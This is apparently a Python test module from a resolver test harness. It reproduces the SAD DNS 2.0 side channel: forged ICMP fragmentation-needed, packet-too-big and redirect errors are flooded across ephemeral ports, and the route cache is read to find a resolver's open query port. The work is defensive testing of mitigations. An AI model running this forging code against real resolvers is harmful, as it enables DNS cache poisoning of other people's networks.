"""Decides SAD DNS 2.0: forged ICMP errors that leave a trace in the resolver's routes when they name an open port.

The kernel looks for the socket that an ICMP error quotes. Finds it none, nothing happens; finds it one, "fragmentation
needed" and a redirect become an exception to the route of that server, of which side channels tell. The attacker sends
an error for each port of 49152-65535 while a question is out. Three errors, each in a window of its own:
"fragmentation needed" (IPv4), "packet too big" (IPv6) and, in the name of the resolver's gateway, a redirect to another
machine on its link. Two rows:

* `sad-dns-2`: the two about sizes. The weakened build leaves IP_MTU_DISCOVER as it is for any socket.
* `redirect`: no socket option helps; the kernel has to be told (net.ipv4.conf.*.accept_redirects).
"""

from __future__ import annotations

import struct
import time

from stage import ip, wire
from stage.attack import Attack, Result, Scene
from stage.ground import Ground, Host
from stage.slow import slow, teach_slow
from stage.targets import Berthd, Kresd, Unbound
from stage.zones import Servers

PORTS = range(49152, 65536)
NAME = "%d.mtu-%d."
FAMILIES = (4, 6)
OUT_S = 0.02
GATEWAY, OTHER_GATEWAY = "198.18.1.254", "198.18.1.253"  # both are the router's
MTU, MTU6 = 600, 1280
ICMP6 = 58


def prepare(servers: Servers) -> None:
    for family in FAMILIES:
        servers.add("mtu-%d." % family, speech=slow(servers), families=(family,))


def exceptions(host: Host) -> set[str]:
    """What the kernel learnt of routes, a line for each."""
    lines = host.run("ip", "route", "show", "cache") + host.run("ip", "-6", "route", "show", "cache")
    return {line.split(" dev")[0] for line in lines.splitlines() if not line.startswith(" ")}


class Forger:
    """ICMP errors about a datagram that the resolver sent to a server: only the port changes from one to the next."""

    def __init__(self, ground: Ground, source: str, server: str):
        self.source, self.server = source, server
        self.target = ground.R.address6 if ":" in server else ground.R.address
        self.sender = ip.RawSender(ground.A)

    def flood(self, kind: int, code: int, rest: bytes) -> None:
        six = ":" in self.server
        quoted = bytearray(ip.packet(self.target, self.server, ip.UDP, struct.pack("!4H", 0, 53, 40, 0)))
        quoted[4 if six else 2:6 if six else 4] = struct.pack("!H", 40 if six else 60)  # as long as the question was
        base = ip.ones_sum(struct.pack("!BBH", kind, code, 0) + rest + quoted)
        if six:
            base += ip.ones_sum(ip.ip_address(self.source).packed + ip.ip_address(self.target).packed +
                                struct.pack("!IHBB", 8 + len(quoted), 0, 0, ICMP6))
        at = 40 if six else 20
        for port in PORTS:
            quoted[at:at + 2] = struct.pack("!H", port)
            total = base + port
            while total > 0xFFFF:
                total = (total & 0xFFFF) + (total >> 16)
            error = struct.pack("!BBH", kind, code, 0xFFFF - total) + rest + quoted
            self.sender.send(ip.packet(self.source, self.target, ICMP6 if six else ip.ICMP, error))

    def close(self) -> None:
        self.sender.close()


def ask(scene: Scene, name: str) -> None:
    """And do not wait."""
    with scene.ground.C.socket() as sock:
        sock.sendto(wire.query(name), (scene.ground.R.address, 53))
    time.sleep(OUT_S)


def window(scene: Scene, number: int, family: int, source: str, error: tuple[int, int, bytes]) -> set[str]:
    """The exceptions that come of one flood while a question is out."""
    ground, zone = scene.ground, scene.servers.zones[FAMILIES.index(family)]
    forger = Forger(ground, source, zone.address if family == 4 else zone.address6)
    before = exceptions(ground.R)
    ask(scene, NAME % (number, family))
    forger.flood(*error)
    forger.close()
    return exceptions(ground.R) - before


def run_mtu(scene: Scene) -> Result:
    teach_slow(scene.target, *(NAME[3:] % family for family in FAMILIES))
    ground, found = scene.ground, {}
    for number in range(scene.size(5, 2)):
        needed = window(scene, 2 * number, 4, ground.A.address, (3, 4, struct.pack("!HH", 0, MTU)))
        too_big = window(scene, 2 * number + 1, 6, ground.A.address6, (2, 0, struct.pack("!I", MTU6)))
        found[number] = {"fragmentation needed": sorted(needed), "packet too big": sorted(too_big)}
    hits = {kind: sum(bool(of[kind]) for of in found.values()) for kind in found[0]}
    text = ", ".join("%d of %d windows with %s left an exception" % (count, len(found), kind) for kind, count in hits.items())
    return Result(any(hits.values()), text, {"exceptions": found})


def two_gateways(ground: Ground) -> None:
    """Another machine on the resolver's link, and a router that forwards what claims to come from itself."""
    ground.give(ground.G, "R", OTHER_GATEWAY + "/24")
    ground.G.sysctl("net.ipv4.conf.all.accept_local", 1)
    with ground.R.socket() as sock:
        sock.sendto(b"", (OTHER_GATEWAY, 9))  # the resolver has met it before


def run_redirect(scene: Scene) -> Result:
    teach_slow(scene.target, NAME[3:] % 4)
    found = {}
    for number in range(scene.size(5, 2)):
        found[number] = sorted(window(scene, number, 4, GATEWAY, (5, 1, wire.address(OTHER_GATEWAY))))
    hits = sum(map(bool, found.values()))
    return Result(hits > 0, "%d of %d windows left an exception" % (hits, len(found)), {"exceptions": found})


ATTACKS = [
    Attack(
        name="sad-dns-2",
        title="forged \"fragmentation needed\" for the port of a question",
        reference="Man et al. 2021 (SAD DNS 2.0); CVE-2021-20322",
        defence="IP_MTU_DISCOVER and IPV6_MTU_DISCOVER are IP_PMTUDISC_OMIT: the kernel does not listen to such errors",
        weakness="the options are left as they are",
        prepare=prepare,
        run=run_mtu,
        shipped=Berthd,
        weakened=lambda: Berthd("pmtu"),
        peers=[Unbound, Kresd],
        ipv6=True,
    ),
    Attack(
        name="redirect",
        title="forged ICMP redirects for the port of a question",
        reference="Man et al. 2021 (SAD DNS 2.0); CVE-2021-20322",
        defence="?",
        weakness="?",
        prepare=prepare,
        run=run_redirect,
        shipped=Berthd,
        weakened=lambda: Berthd("pmtu"),
        peers=[Unbound, Kresd],
        change_ground=two_gateways,
    ),
]
